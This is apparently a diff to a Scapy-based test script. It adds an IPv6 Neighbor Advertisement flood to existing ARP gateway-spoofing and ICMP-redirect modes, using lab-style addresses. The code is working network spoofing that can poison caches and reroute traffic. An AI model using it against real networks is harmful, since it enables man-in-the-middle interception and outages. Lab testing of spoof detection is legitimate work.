@@ -12,6 +12,9 @@ def to_dst(p, **kw): sendp(Ether(dst=MDST, **kw) / p, iface=IF)
 what = sys.argv[1]
 if what == "storm":
     sendp([Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, psrc=GW, pdst=GW, hwsrc="02:00:00:00:00:66")] * 120, iface=IF, inter=0.02)
+elif what == "storm6":
+    announcement = IPv6(src="fd00::254", dst="ff02::1", hlim=255) / ICMPv6ND_NA(tgt="fd00::254", R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr="02:00:00:00:00:66")
+    sendp([Ether(src="02:00:00:00:00:66", dst="33:33:00:00:00:01") / announcement] * 120, iface=IF, inter=0.02)
 elif what == "redirect":
     quoted = IP(src=SRC, dst=FAR) / ICMP(id=0x7777, seq=1)
     for _ in range(3): to_src(IP(src=GW, dst=SRC) / ICMP(type=5, code=1, gw="192.0.2.66") / quoted)
